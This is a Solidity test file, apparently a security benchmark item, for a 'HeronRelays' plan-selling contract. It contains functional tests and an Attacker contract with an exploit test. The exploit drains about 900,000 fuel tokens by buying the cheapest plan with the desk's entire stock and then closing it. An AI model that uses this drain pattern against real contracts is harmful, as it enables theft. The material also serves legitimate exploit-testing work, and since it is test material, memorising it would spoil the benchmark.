// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

// assay-canary-6602c9f9-6fda-48b7-bc99-37aea0dce88b

import "./HeronRelays.sol";

interface Vm {
    function prank(address who) external;
    function warp(uint256 timestamp) external;
    function deal(address who, uint256 amount) external;
    function expectRevert(bytes calldata reason) external;
}

contract Fuel is IFuel {
    address private maker = msg.sender;
    bool private asleep;

    /// While it sleeps, it says no.
    function sleep(bool asleep_) external {
        require(msg.sender == maker, "maker only");
        asleep = asleep_;
    }

    address private minter = msg.sender;
    mapping(address => uint256) public override balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external override returns (bool) {
        allowance[msg.sender][spender] = amount;
        return !asleep;
    }

    function transfer(address to, uint256 amount) external override returns (bool) {
        if (asleep) return false;
        _move(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external override returns (bool) {
        if (asleep) return false;
        require(allowance[from][msg.sender] >= amount, "allowance");
        allowance[from][msg.sender] -= amount;
        _move(from, to, amount);
        return true;
    }

    function _move(address from, address to, uint256 amount) private {
        require(balanceOf[from] >= amount, "balance");
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
    }
}

/// Buys the smallest plan there is.
contract Attacker {
    function run(HeronRelays desk) external {
        uint256 id = desk.buy{value: desk.priceOf(1, 1)}(1, 1, desk.stock());
        desk.network().close(id);
    }

    receive() external payable {}
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1_773_900_000;

    Fuel public token;
    RelayNetwork public network;
    HeronRelays public desk;
    Attacker public guest;

    function setUp() public {
        vm.warp(START);
        token = new Fuel();
        network = new RelayNetwork(token);
        desk = new HeronRelays(network, 0.2 ether, 0.01 ether);
        token.mint(address(this), 1_000_000e18);
        token.approve(address(desk), 1_000_000e18);
        desk.restock(1_000_000e18);
        guest = new Attacker();
        vm.deal(address(guest), 0.5 ether);
        vm.deal(address(this), 100 ether);
    }

    function test_Regular() public {
        require(desk.priceOf(1, 1) == 0.5 ether && desk.fuelFor(4, 2) == 240e18, "price");
        uint256 id = desk.buy{value: 4 ether}(4, 2, 240e18);
        require(network.ownerOf(id) == address(this) && network.isRunning(id), "running");
        require(desk.stock() == 999_760e18, "fuel of the plan");
        try desk.buy{value: 3 ether}(4, 2, 240e18) returns (uint256) {
            revert("paid too little");
        } catch {}
        try desk.buy{value: 0.5 ether}(1, 1, 1e18) returns (uint256) {
            revert("less than a week");
        } catch {}

        // With fuel of one's own.
        uint256 own = desk.buy{value: 0.5 ether}(1, 1, 7e18);
        token.mint(address(this), 50e18);
        token.approve(address(network), 50e18);
        network.addFuel(own, 50e18);

        vm.warp(START + 50 days);
        require(network.isRunning(own) && network.isRunning(id), "both run");
        desk.renew{value: 2 ether}(id, 1, 120e18);
        (uint64 paidUntil, uint32 renewals,) = desk.plans(id);
        require(paidUntil == START + 90 days && renewals == 1, "renewed");
        vm.warp(START + 60 days);
        require(!network.isRunning(own), "burnt");
        require(network.close(own) == 0, "nothing left");
        try desk.renew{value: 0.5 ether}(own, 1, 1e18) {
            revert("renewed a closed one");
        } catch {}
        uint256 before = token.balanceOf(address(this));
        require(network.close(id) == 120e18, "a month is left");
        require(token.balanceOf(address(this)) == before + 120e18, "returned");

        desk.setOnSale(false);
        try desk.buy{value: 0.5 ether}(1, 1, 7e18) returns (uint256) {
            revert("not on sale");
        } catch {}
        uint256 cash = address(this).balance;
        desk.cashUp(address(this));
        require(address(this).balance == cash + 6.5 ether, "cashed up");

        desk.setPrices(0.3 ether, 0.02 ether);
        require(desk.hostingPrice() == 0.3 ether && desk.fuelPrice() == 0.02 ether, "prices");
        uint256 stock = token.balanceOf(address(this));
        desk.withdrawStock(1e18);
        require(token.balanceOf(address(this)) == stock + 1e18, "stock");
        desk.proposeOperator(address(0x0A));
        vm.prank(address(0x0A));
        desk.acceptOperator();
        require(desk.operator() == address(0x0A), "operator");
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The operator's business.
    function test_RefusesStrangers() public {
        address guest_ = address(guest);
        refuses(guest_, "operator only");
        desk.setPrices(1, 1);
        refuses(guest_, "operator only");
        desk.setOnSale(false);
        refuses(guest_, "operator only");
        desk.withdrawStock(1);
        refuses(guest_, "operator only");
        desk.cashUp(payable(guest_));
        refuses(guest_, "operator only");
        desk.proposeOperator(guest_);
        refuses(guest_, "not proposed");
        desk.acceptOperator();
    }

    /// Masts, months, fuel and prices within bounds.
    function test_RefusesPlans() public {
        vm.expectRevert("masts");
        desk.buy(0, 1, 0);
        vm.deal(address(this), 1000 ether);
        uint256 price = desk.priceOf(201, 1);
        vm.expectRevert("masts");
        desk.buy{value: price}(201, 1, 7_000e18);
        vm.expectRevert("months");
        desk.buy(1, 0, 7e18);
        price = desk.priceOf(1, 25);
        vm.expectRevert("months");
        desk.buy{value: price}(1, 25, 7e18);
        vm.expectRevert("fuel");
        desk.buy{value: 0.5 ether}(1, 1, 1_000_001e18);
        vm.expectRevert("no such plan");
        desk.renew{value: 0.5 ether}(99, 1, 7e18);
        vm.expectRevert("price");
        desk.setPrices(1e24, 1);
        vm.expectRevert("price");
        desk.setPrices(1, 1e24);
        uint256 id = desk.buy{value: 0.5 ether}(1, 1, 7e18);
        network.close(id);
        vm.expectRevert("no such plan");
        desk.renew{value: 0.5 ether}(id, 1, 7e18);
        desk.setOnSale(false);
        vm.expectRevert("not on sale");
        desk.renew{value: 0.5 ether}(id, 1, 7e18);
    }

    /// Fuel that says no is believed, and cash goes to who takes it.
    function test_RefusesFailedTransfers() public {
        vm.deal(address(desk), 1 ether);
        vm.expectRevert("ether");
        desk.cashUp(payable(address(token)));
        token.sleep(true);
        try new HeronRelays(network, 1, 1) {
            revert("a desk that cannot open plans");
        } catch Error(string memory why) {
            require(keccak256(bytes(why)) == keccak256("approve"), "approve");
        }
        vm.expectRevert("fuel");
        desk.withdrawStock(1);
        vm.expectRevert("fuel");
        desk.restock(1);
    }

    function exploit() public {
        guest.run(desk);
    }

    function test_Exploit() public {
        uint256 before = token.balanceOf(address(guest));
        exploit();
        require(token.balanceOf(address(guest)) >= before + 900_000e18, "no gain");
    }

    function target() public view returns (address) {
        return address(desk);
    }

    function attacker() public view returns (address) {
        return address(guest);
    }

    receive() external payable {}
}
